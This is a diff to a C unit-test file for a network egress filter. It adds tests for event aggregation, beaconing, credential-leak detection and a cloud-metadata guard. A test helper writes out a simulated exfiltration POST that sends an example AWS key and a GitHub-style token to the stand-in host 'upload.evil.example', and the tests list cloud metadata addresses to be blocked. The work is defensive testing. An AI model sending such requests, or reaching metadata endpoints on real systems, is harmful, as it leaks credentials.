@@ -42,6 +42,8 @@ struct evrec {
 	char imitates[254];
 	enum severity sev;
 	uint16_t dport;
+	bool aggregated;
+	uint64_t first_ns, last_ns;
 };
 
 struct h {
@@ -90,6 +92,9 @@ static void on_event(void *arg, const struct flow_event *ev)
 	snprintf(r->imitates, sizeof r->imitates, "%s", ev->ind.imitates);
 	r->sev = ev->ind.severity;
 	r->dport = ev->dport;
+	r->aggregated = ev->aggregated;
+	r->first_ns = ev->first_ns;
+	r->last_ns = ev->last_ns;
 	assert_true(ev->count >= 1);
 }
 
@@ -1378,18 +1383,207 @@ static void test_aggregation_and_beacon(void **state)
 	/* three denials of the same destination within 1 s, different source ports */
 	for (uint16_t i = 0; i < 3; i++)
 		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, 1 + i);
-	assert_int_equal(h->nev, 1);
-	assert_int_equal(h->ev[0].count, 1);
-	engine_tick(h->e, S / 2);
-	assert_int_equal(h->nev, 1);
-	engine_tick(h->e, 2 * S);
+	/* the first; the second aggregated; the third (in 60 s) is a beacon:
+	 * a new indicator, so a line of its own (issue 12) */
 	assert_int_equal(h->nev, 2);
-	assert_int_equal(h->ev[1].count, 2);
-	assert_int_equal(h->ev[1].reason, REASON_IP_NOT_ALLOWED);
-	/* spaced out: separate events; the third in 60 s... and more is a beacon */
-	syn(h, "192.0.2.1", "198.51.100.9", 41000, 443, 3 * S);
+	assert_int_equal(h->ev[0].count, 1);
+	assert_true(h->ev[1].bits & IND_BEACON);
+	engine_tick(h->e, S / 2);
+	assert_int_equal(h->nev, 2);
+	engine_tick(h->e, 2 * S);
 	assert_int_equal(h->nev, 3);
-	assert_true(h->ev[2].bits & IND_BEACON);
+	assert_int_equal(h->ev[2].count, 1);
+	assert_true(h->ev[2].aggregated);
+	assert_false(h->ev[2].bits & IND_BEACON);
+	assert_int_equal(h->ev[2].reason, REASON_IP_NOT_ALLOWED);
+	/* spaced out: separate events, still a beacon */
+	syn(h, "192.0.2.1", "198.51.100.9", 41000, 443, 3 * S);
+	assert_int_equal(h->nev, 4);
+	assert_true(h->ev[3].bits & IND_BEACON);
+	teardown_h(h);
+}
+
+/* Issue 12: aggregation loses nothing. Events that differ only in their
+ * credentials are lines of their own; true repeats carry count and times. */
+static void post_cred(struct h *h, const char *sv, uint16_t sport, const char *body, uint64_t t)
+{
+	char req[512];
+	snprintf(req, sizeof req,
+	         "POST /u HTTP/1.1\r\nHost: upload.evil.example\r\nContent-Length: %zu\r\n\r\n%s",
+	         strlen(body), body);
+	syn(h, "192.0.2.1", sv, sport, 80, t);
+	uint64_t a = seg(h, "192.0.2.1", sv, sport, 80, 0, req, strlen(req), t);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+}
+
+#define AWS_BODY "key=AKIAIOSFODNN7EXAMPLE"
+#define GH_BODY "t=ghp_Qx7RmT2vLw9KpZ4nYc8HsJ3fBd6GaE1uVo5i"
+
+static void test_aggregation_keeps_credentials(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *sv = "198.51.100.80", *sv2 = "198.51.100.81";
+	bind_name(h, "www.example.com", sv); /* the SYN passes, the Host decides */
+	bind_name(h, "www.example.com", sv2);
+	/* the AWS key, then a GitHub token to the same host: two lines */
+	post_cred(h, sv, 40000, AWS_BODY, 1 * S);
+	post_cred(h, sv, 40001, GH_BODY, 1 * S + S / 10);
+	assert_int_equal(h->nev, 2);
+	assert_int_equal(h->ev[0].ctype, CRED_AWS_ACCESS_KEY);
+	assert_int_equal(h->ev[1].ctype, CRED_GITHUB_TOKEN);
+	assert_false(h->ev[0].aggregated || h->ev[1].aggregated);
+	/* elsewhere: the same key twice aggregates; another key of the same type
+	 * (another masked form) is a line of its own */
+	post_cred(h, sv2, 41000, AWS_BODY, 1 * S + 2 * S / 10);
+	post_cred(h, sv2, 41001, AWS_BODY, 1 * S + 3 * S / 10);
+	assert_int_equal(h->nev, 3);
+	post_cred(h, sv2, 41002, "key=AKIAZZZZZZZZZZZZQQQQ", 1 * S + 4 * S / 10);
+	assert_int_equal(h->nev, 4);
+	assert_string_equal(h->ev[3].masked, "AKIA\xe2\x80\xa6QQQQ");
+	engine_tick(h->e, 3 * S);
+	assert_int_equal(h->nev, 5);
+	const struct evrec *agg = &h->ev[4];
+	assert_true(agg->aggregated);
+	assert_int_equal(agg->count, 1);
+	assert_int_equal(agg->ctype, CRED_AWS_ACCESS_KEY);
+	assert_string_equal(agg->masked, "AKIA\xe2\x80\xa6MPLE");
+	assert_int_equal(agg->first_ns, 1 * S + 3 * S / 10);
+	assert_int_equal(agg->last_ns, 1 * S + 3 * S / 10);
+	teardown_h(h);
+}
+
+static void test_aggregation_times(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	/* six denials of one destination, 100 ms apart: the first; the second
+	 * (aggregated); the third flagged beacon (a new indicator: a new line),
+	 * the fourth to sixth aggregated into it */
+	for (uint16_t i = 0; i < 6; i++)
+		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, S + i * (S / 10));
+	assert_int_equal(h->nev, 2);
+	assert_false(h->ev[0].bits & IND_BEACON);
+	assert_true(h->ev[1].bits & IND_BEACON);
+	engine_tick(h->e, 3 * S);
+	assert_int_equal(h->nev, 4);
+	unsigned total = 0;
+	for (unsigned i = 0; i < h->nev; i++) {
+		total += h->ev[i].count;
+		if (!h->ev[i].aggregated)
+			continue;
+		if (h->ev[i].bits & IND_BEACON) {
+			assert_int_equal(h->ev[i].count, 3);
+			assert_int_equal(h->ev[i].first_ns, S + 3 * (S / 10));
+			assert_int_equal(h->ev[i].last_ns, S + 5 * (S / 10));
+		} else {
+			assert_int_equal(h->ev[i].count, 1);
+			assert_int_equal(h->ev[i].first_ns, S + S / 10);
+		}
+	}
+	assert_true(h->ev[2].aggregated && h->ev[3].aggregated);
+	assert_int_equal(total, 6);
+	teardown_h(h);
+}
+
+/* Issue 12: the cloud metadata guard ([egressd] metadata = deny). */
+static void metadata_host_tweak(struct engine_config *c)
+{
+	c->metadata_critical = true;
+}
+
+static void metadata_allow_tweak(struct engine_config *c)
+{
+	c->metadata_allow = true;
+}
+
+static void test_metadata_addresses(void **state)
+{
+	(void)state;
+	const char *yes[] = {"169.254.169.254", "fd00:ec2::254", "169.254.170.2",
+	                     "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"};
+	const char *no[] = {"169.254.169.253", "169.254.170.3", "fd00:ec2::253", "198.51.100.1",
+	                    "2001:db8::a9fe:a9fe", "::ffff:169.254.170.1"};
+	for (size_t i = 0; i < sizeof yes / sizeof *yes; i++) {
+		struct addr a = A(yes[i]);
+		assert_true(engine_is_metadata(&a));
+	}
+	for (size_t i = 0; i < sizeof no / sizeof *no; i++) {
+		struct addr a = A(no[i]);
+		assert_false(engine_is_metadata(&a));
+	}
+}
+
+static void test_metadata_guard(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	/* an allowed name whose DNS answer points at the metadata endpoint: denied
+	 * at the SYN, flagged metadata (high: gateway) */
+	bind_name(h, "www.example.com", "169.254.169.254");
+	uint64_t a = syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
+	assert_true(last_ev(h)->bits & IND_METADATA);
+	assert_int_equal(last_ev(h)->sev, SEVERITY_HIGH);
+	/* the same over UDP, through a binding */
+	bind_name(h, "ntp.example.com", "169.254.170.2");
+	uint8_t pkt[256];
+	size_t n = build_udp(pkt, "192.0.2.1", "169.254.170.2", 5000, 123, "ntp", 3);
+	uint64_t u = feed(h, pkt, n, 2);
+	assert_int_equal(h->vlast[u], VERDICT_DENY);
+	assert_true(last_ev(h)->bits & IND_METADATA);
+	/* IPv6 */
+	uint64_t b = syn(h, "2001:db8:1::10", "fd00:ec2::254", 40001, 443, 3);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	assert_true(last_ev(h)->bits & IND_METADATA);
+	/* a link-local neighbour is no metadata endpoint */
+	syn(h, "192.0.2.1", "169.254.1.1", 40002, 443, 4);
+	assert_false(last_ev(h)->bits & IND_METADATA);
+	/* an IP entry that lists it allows it (and flags nothing) */
+	struct policy_builder *pb = policy_builder_new();
+	struct addr md = A("169.254.169.254");
+	assert_int_equal(policy_builder_add_range(pb, &md, 32, P80, 2, "t.list", 1,
+	                                          "169.254.169.254:80,443"),
+	                 0);
+	struct policy *p2 = policy_builder_finish(pb);
+	assert_non_null(p2);
+	engine_set_policy(h->e, p2, &h->cfg);
+	policy_free(h->p);
+	h->p = p2;
+	uint64_t c = syn(h, "192.0.2.1", "169.254.169.254", 40003, 80, 5);
+	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
+	/* ... on its ports only */
+	uint64_t d = syn(h, "192.0.2.1", "169.254.169.254", 40004, 8080, 6);
+	assert_int_equal(h->vlast[d], VERDICT_DENY);
+	assert_true(last_ev(h)->bits & IND_METADATA);
+	teardown_h(h);
+
+	/* host mode: critical */
+	h = setup_with(metadata_host_tweak);
+	syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
+	assert_true(last_ev(h)->bits & IND_METADATA);
+	assert_int_equal(last_ev(h)->sev, SEVERITY_CRITICAL);
+	teardown_h(h);
+
+	/* verify mode: the SYN to it is denied already, whatever name follows */
+	h = setup_with(verify_tweak);
+	a = syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_true(last_ev(h)->bits & IND_METADATA);
+	teardown_h(h);
+
+	/* metadata = allow: no guard, the binding decides as for any address */
+	h = setup_with(metadata_allow_tweak);
+	bind_name(h, "www.example.com", "169.254.169.254");
+	a = syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
+	assert_int_equal(h->vlast[a], VERDICT_PASS);
+	const char *req = "GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
+	uint64_t r = seg(h, "192.0.2.1", "169.254.169.254", 40000, 80, 0, req, strlen(req), 2);
+	assert_int_equal(h->vlast[r], VERDICT_INSPECT);
+	syn(h, "192.0.2.1", "169.254.170.2", 40001, 443, 3);
+	assert_false(last_ev(h)->bits & IND_METADATA);
 	teardown_h(h);
 }
 
@@ -2470,6 +2664,10 @@ int main(void)
 	    cmocka_unit_test(test_audit_timeout),
 	    cmocka_unit_test(test_hold_bytes_total),
 	    cmocka_unit_test(test_aggregation_and_beacon),
+	    cmocka_unit_test(test_aggregation_keeps_credentials),
+	    cmocka_unit_test(test_metadata_addresses),
+	    cmocka_unit_test(test_metadata_guard),
+	    cmocka_unit_test(test_aggregation_times),
 	    cmocka_unit_test(test_table_full),
 	    cmocka_unit_test(test_dns_guard),
 	    cmocka_unit_test(test_set_policy),
